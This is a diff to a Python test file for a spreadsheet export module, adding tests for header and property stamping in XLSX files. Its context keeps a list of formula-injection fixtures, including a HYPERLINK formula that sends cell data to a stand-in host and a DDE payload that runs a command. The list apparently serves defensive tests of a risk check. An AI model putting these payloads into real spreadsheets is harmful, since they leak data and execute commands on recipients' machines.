@@ -8,8 +8,9 @@ from zipfile import ZipFile
 import pytest
 from python_calamine import CalamineWorkbook
 
-from web.spreadsheets import csv_parts, is_risky, write_xlsx
+from web.spreadsheets import Stamp, csv_parts, is_risky, write_xlsx
 
+WHEN = datetime(2026, 3, 2, 1, 30, tzinfo=UTC)
 ATTACKS = (
     '=HYPERLINK("http://x/?"&A1)',
     "+1+cmd|' /C calc'!A0",
@@ -99,3 +100,34 @@ def test_a_long_list_is_handed_out_in_parts_and_its_notes_come_last():
 
     assert len(seen) < 1000
     assert read_csv(b"".join(parts))[-1] == ["共 1000 行"]
+
+
+def test_the_file_says_at_its_head_and_in_its_properties_whose_copy_it_is():
+    stamp = Stamp(
+        title="案件",
+        who="导出人：张&工（zhang）",
+        when=WHEN,
+        remark="仅供办理公务使用",
+    )
+    file = io.BytesIO()
+    write_xlsx(file, ["一"], [["x"]], [], stamp=stamp)
+
+    with ZipFile(file) as inside:
+        sheet = inside.read("xl/worksheets/sheet1.xml").decode()
+        core = inside.read("docProps/core.xml").decode()
+    assert "&amp;L案件&amp;R导出人：张&amp;&amp;工（zhang） 2026-03-02 09:30" in sheet
+    assert "<dc:title>案件</dc:title>" in core
+    assert "<dc:creator>导出人：张&amp;工（zhang）</dc:creator>" in core
+    assert "2026-03-02 09:30 仅供办理公务使用</dc:description>" in core
+    assert "2026-03-02T01:30:00Z</dcterms:created>" in core
+
+
+def test_a_head_keeps_its_length_whatever_a_list_is_called():
+    stamp = Stamp(title="&" * 300, who="&" * 300, when=WHEN, remark="")
+    file = io.BytesIO()
+    write_xlsx(file, ["一"], [], ["&" * 300], stamp=stamp)
+
+    with ZipFile(file) as inside:
+        sheet = inside.read("xl/worksheets/sheet1.xml").decode()
+    head = sheet.partition("<oddHeader>")[2].partition("</oddHeader>")[0]
+    assert 0 < len(head.replace("&amp;", "&")) <= 255
